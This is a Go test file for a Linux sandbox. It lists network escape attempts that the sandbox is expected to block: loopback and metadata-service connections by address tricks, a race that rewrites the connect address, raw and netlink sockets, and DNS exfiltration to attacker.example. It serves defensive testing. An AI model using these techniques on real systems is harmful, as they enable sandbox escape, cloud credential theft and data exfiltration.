//go:build linux

package sandbox_test

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync/atomic"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func uintptrOf(b []byte) uintptr     { return uintptr(unsafe.Pointer(&b[0])) }
func uintptrOf64(b []uint64) uintptr { return uintptr(unsafe.Pointer(&b[0])) }

// noLoopbackBut returns noLoopback with exceptions, as for a worker that offers some servers to its steps.
func noLoopbackBut(permitted ...string) func(netip.AddrPort) error {
	return func(to netip.AddrPort) error {
		if slices.Contains(permitted, to.String()) {
			return nil
		}
		return noLoopback(to)
	}
}

// reaches succeeds when a server of the host sends its greeting.
func reaches(network, address string) error {
	conn, err := net.DialTimeout(network, address, 2*time.Second)
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(2 * time.Second))
	greeting := make([]byte, 5)
	if _, err := conn.Read(greeting); err != nil {
		return err
	}
	if string(greeting) != "store" {
		return fmt.Errorf("another server answered %q", greeting)
	}
	return nil
}

// echoes succeeds when a server returns a datagram.
func echoes(address string) error {
	conn, err := net.Dial("udp", address)
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(500 * time.Millisecond))
	if _, err := conn.Write([]byte("hello")); err != nil {
		return err
	}
	_, err = conn.Read(make([]byte, 16))
	return err
}

func port(address string) string { return address[strings.LastIndexByte(address, ':')+1:] }

// hostAddress returns an address of the host other than the loopback.
func hostAddress(family string) (string, error) {
	conn, err := net.Dial(family, "192.0.2.200:9")
	if err != nil {
		return "", err
	}
	defer conn.Close()
	host, _, err := net.SplitHostPort(conn.LocalAddr().String())
	return host, err
}

const (
	noNetwork  = "a machine without such a network"
	noFamilies = "a kernel without this family"
)

func networkAttempts() []attempt {
	to := func(server, host string) func(world) error {
		return func(w world) error { return reaches("tcp", net.JoinHostPort(host, port(w.Store[server]))) }
	}
	family := func(domain, kind, protocol int) func(world) error {
		return func(world) error {
			fd, err := unix.Socket(domain, kind, protocol)
			return errors.Join(err, unix.Close(fd))
		}
	}
	return []attempt{
		{name: "connect to the store", unnamed: otherNamespace, attack: to("store", "127.0.0.1")},
		{name: "connect to Redis", unnamed: otherNamespace, attack: to("redis", "127.0.0.1")},
		{name: "connect to Temporal", unnamed: otherNamespace, attack: to("temporal", "127.0.0.1")},
		{name: "connect to the store by another loopback address", unnamed: otherNamespace, attack: to("any", "127.8.8.8")},
		{name: "connect to the store by the unspecified address", unnamed: otherNamespace, attack: to("store", "0.0.0.0")},
		{name: "connect to the store by IPv6", unnamed: otherNamespace, attack: to("ipv6", "::1")},
		{name: "connect to the store by a mapped address", unnamed: otherNamespace, attack: to("store", "::ffff:127.0.0.1")},
		{name: "connect to the store by the unspecified IPv6 address", unnamed: otherNamespace, attack: to("ipv6", "::")},
		{name: "connect to the store by a NAT64 address", attack: to("store", "64:ff9b::7f00:1"), hostMayRefuse: noNetwork,
			named: "64:ff9b"},
		{name: "connect to the store by the host's address", named: "the step does not list it", attack: func(w world) error {
			host, err := hostAddress("udp4")
			if err != nil {
				host = "10.1.2.3"
			}
			return reaches("tcp", net.JoinHostPort(host, port(w.Store["any"])))
		}, hostMayRefuse: noNetwork},
		{name: "connect to the metadata service", attack: func(world) error {
			return reaches("tcp4",
				"169.254.169.254:8080")
		},
			hostMayRefuse: noNetwork, named: "connect to 169.254.169.254:8080"},
		{name: "connect to the metadata service by a mapped address", attack: func(world) error {
			return rawConnect6("::ffff:169.254.169.254", 8080)
		}, hostMayRefuse: noNetwork, named: "169.254.169.254"},
		{name: "connect to the metadata service by IPv6",
			attack:        func(world) error { return reaches("tcp6", "[fd00:ec2::254]:80") },
			hostMayRefuse: noNetwork, named: "fd00:ec2::254"},
		{name: "connect to a port that is not listed", attack: func(world) error { return reaches("tcp", "192.0.2.77:25") },
			hostMayRefuse: noNetwork, named: "192.0.2.77:25"},
		{name: "rewrite the address while the connection is judged", unnamed: otherNamespace, attack: rewriteAddress},
		{name: "connect by the first datagram", named: "MSG_FASTOPEN",
			attack:        func(w world) error { return fastOpen(w.Store["store"]) },
			hostMayRefuse: "a kernel whose client has no TCP fast open"},
		{name: "send datagrams to the host", unnamed: otherNamespace,
			attack: func(w world) error { return echoes(w.Echo["ipv4"]) }},
		{name: "send datagrams to the host by IPv6", unnamed: otherNamespace,
			attack: func(w world) error { return echoes(w.Echo["ipv6"]) }},
		{name: "send datagrams to the host's address", unnamed: otherNamespace, attack: func(w world) error {
			host, err := hostAddress("udp4")
			if err != nil {
				return err
			}
			return echoes(net.JoinHostPort(host, port(w.Echo["any"])))
		}, hostMayRefuse: noNetwork},
		{name: "ask a name server of its own choice", unnamed: otherNamespace,
			attack:        func(world) error { return echoes("192.0.2.53:53") },
			hostMayRefuse: noNetwork},
		{name: "carry data out in a name", attack: func(world) error { return resolveName("c2VjcmV0.attacker.example") },
			hostMayRefuse: "a machine without a resolver", named: "c2vjcmv0.attacker.example"},
		{name: "connect to an abstract socket of the host", unnamed: otherNamespace,
			attack: func(w world) error { return reaches("unix", w.Abstract) }},
		{name: "connect to a socket of another workspace", named: "connection to",
			attack: func(w world) error { return reaches("unix", w.Socket) }},
		{name: "open a raw socket", named: "raw socket", attack: family(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)},
		{name: "open a raw socket of IPv6", named: "raw socket", attack: family(unix.AF_INET6, unix.SOCK_RAW,
			unix.IPPROTO_ICMPV6)},
		{name: "open a packet socket", named: "packet", attack: family(unix.AF_PACKET, unix.SOCK_RAW, 0),
			hostMayRefuse: noFamilies},
		{name: "listen to the kernel's events", named: "netlink", attack: family(unix.AF_NETLINK, unix.SOCK_RAW,
			unix.NETLINK_KOBJECT_UEVENT)},
		{name: "list the sockets of the host", named: "netlink", attack: family(unix.AF_NETLINK, unix.SOCK_RAW,
			unix.NETLINK_SOCK_DIAG), hostMayRefuse: noFamilies},
		{name: "open a socket of the hypervisor", named: "vsock", attack: family(unix.AF_VSOCK, unix.SOCK_STREAM, 0),
			hostMayRefuse: noFamilies},
		{name: "open a socket of the kernel's ciphers", named: "alg", attack: family(unix.AF_ALG, unix.SOCK_SEQPACKET, 0),
			hostMayRefuse: noFamilies},
		{name: "bring up a network", unnamed: byTheKernel, attack: func(world) error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
			if err != nil {
				return err
			}
			ifr, err := unix.NewIfreq("lo")
			if err != nil {
				return err
			}
			ifr.SetUint16(unix.IFF_UP | unix.IFF_RUNNING)
			return unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, ifr)
		}},
	}
}

// rawConnect6 connects an IPv6 socket to an address that package net would convert to IPv4.
func rawConnect6(host string, port int) error {
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Connect(fd, &unix.SockaddrInet6{Port: port, Addr: netip.MustParseAddr(host).As16()})
}

func sockaddr4(address string) [unix.SizeofSockaddrInet4]byte {
	at := netip.MustParseAddrPort(address)
	var raw [unix.SizeofSockaddrInet4]byte
	binary.NativeEndian.PutUint16(raw[:], unix.AF_INET)
	binary.BigEndian.PutUint16(raw[2:], at.Port())
	ip := at.Addr().As4()
	copy(raw[4:], ip[:])
	return raw
}

// rewriteAddress connects to a permitted server while another thread writes the store's address into the same memory.
func rewriteAddress(w world) error {
	good, bad := sockaddr4(w.Permitted), sockaddr4(w.Store["store"])
	shared := make([]byte, len(good))
	var stop atomic.Bool
	defer stop.Store(true)
	go func() {
		for !stop.Load() {
			copy(shared, bad[:])
			copy(shared, good[:])
		}
	}()
	var last error
	for deadline := time.Now().Add(time.Second); time.Now().Before(deadline); {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return err
		}
		greeting := make([]byte, 5)
		if _, _, errno := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptrOf(shared), uintptr(len(shared))); errno != 0 {
			last = errno
		} else if n, err := unix.Read(fd, greeting); err == nil && string(greeting[:n]) == "store" {
			_ = unix.Close(fd)
			return nil
		}
		_ = unix.Close(fd)
	}
	return errors.Join(errors.New("the store was never reached"), last)
}

// fastOpen connects with a message (MSG_FASTOPEN) instead of the call connect.
func fastOpen(address string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	raw, text := sockaddr4(address), []byte("hello")
	if _, _, errno := unix.Syscall6(unix.SYS_SENDTO, uintptr(fd), uintptrOf(text), uintptr(len(text)), unix.MSG_FASTOPEN,
		uintptrOf(raw[:]), uintptr(len(raw))); errno != 0 {
		return errno
	}
	greeting := make([]byte, 5)
	if n, err := unix.Read(fd, greeting); err != nil || string(greeting[:n]) != "store" {
		return errors.Join(errors.New("the store did not greet"), err)
	}
	return nil
}

func resolveName(name string) error {
	_, err := (&net.Resolver{PreferGo: true}).LookupHost(contextWithTimeout(), name)
	return err
}
